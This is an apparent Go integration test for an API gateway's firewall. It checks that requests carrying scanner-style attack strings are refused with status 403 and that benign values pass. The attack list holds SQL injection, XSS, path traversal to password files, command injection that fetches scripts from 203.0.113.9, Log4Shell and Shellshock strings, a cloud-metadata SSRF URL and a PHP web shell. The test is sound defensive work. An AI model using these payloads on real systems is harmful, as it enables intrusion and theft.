//go:build integration

package test

import (
	"net/url"
	"testing"

	"sluice/internal/issuer"
	"sluice/internal/testkit"
)

// attacks are of the kinds that scanners send first.
var attacks = []string{
	`1' OR '1'='1' -- `, `1 UNION ALL SELECT username,password FROM users`, `1; DROP TABLE users--`, `' AND SLEEP(5)#`, `1' AND extractvalue(1,concat(0x7e,version()))--`,
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `<svg/onload=alert(1)>`, `javascript:alert(document.cookie)`, `<iframe src="javascript:alert(1)">`,
	`../../../../etc/passwd`, `..\..\..\windows\win.ini`, `/etc/shadow`, `....//....//etc/passwd`,
	`; cat /etc/passwd`, `| id; uname -a`, "`wget http://203.0.113.9/x.sh`", `$(curl http://203.0.113.9/x)`, `() { :;}; /bin/bash -c "id"`, `${jndi:ldap://203.0.113.9/a}`,
	`http://169.254.169.254/latest/meta-data/`, `<?php system($_GET['c']); ?>`, `php://filter/convert.base64-encode/resource=index.php`,
}

// benign are values that look a little like attacks, or like nothing.
var benign = []string{
	"It's on Friday, isn't it?", "select a chair and order from the list", "O'Brien & Sons", "price > 10 and < 20", "Zoë Müller-Özdemir", "東京都渋谷区",
	"6f1c7a52-9d0e-4b1c-8f8e-2a6d3c1b0a42", "2026-03-01T08:30:00Z", "ann@example.com", "https://example.com/a?b=c", "aGVsbG8gd29ybGQgdGhpcyBpcyBiYXNlNjQ=", "50% off; today only!",
}

// What the gateway blocks never reaches the service, in query, JSON and form;
// what is no attack does.
func TestAttacksStopBeforeTheService(t *testing.T) {
	i := newIssuer(t)
	api := testkit.StartFastAPI(t)
	config := itemsConfig + "waf: {mode: block, detector: {mode: \"off\"}}\n"
	g := testkit.StartGateway(t, config, map[string]any{"Issuer": i.URL(), "Upstream": api.URL})
	client := g.Client(t)
	acme := testkit.Bearer(token(t, i, issuer.Claims{Tenant: "acme"}))
	common := []testkit.Option{acme, testkit.Header("Host", "api.example.com"), testkit.Header("User-Agent", "python-httpx/0.27.0"), testkit.Header("Accept", "*/*")}
	ways := map[string]func(value string) *testkit.Response{
		"query": func(v string) *testkit.Response {
			return client.Get("/api/echo?q="+url.QueryEscape(v), common...)
		},
		"json": func(v string) *testkit.Response {
			return client.Post("/api/echo", append(common[:len(common):len(common)], testkit.JSON(map[string]any{"note": v}))...)
		},
		"form": func(v string) *testkit.Response {
			return client.Post("/api/echo", append(common[:len(common):len(common)], testkit.Body("application/x-www-form-urlencoded", []byte("q="+url.QueryEscape(v))))...)
		},
	}
	through, refused := 0, 0
	for way, send := range ways {
		for _, v := range attacks {
			if r := send(v); r.Status != 403 {
				through++
				t.Errorf("%s: %q: status %d", way, v, r.Status)
			}
		}
		for _, v := range benign {
			if r := send(v); r.Status != 200 {
				refused++
				t.Errorf("%s: %q: status %d", way, v, r.Status)
			}
		}
	}
	t.Logf("%d attacks in %d places: %d passed; %d ordinary values: %d refused", len(attacks), len(ways), through, len(benign), refused)
}
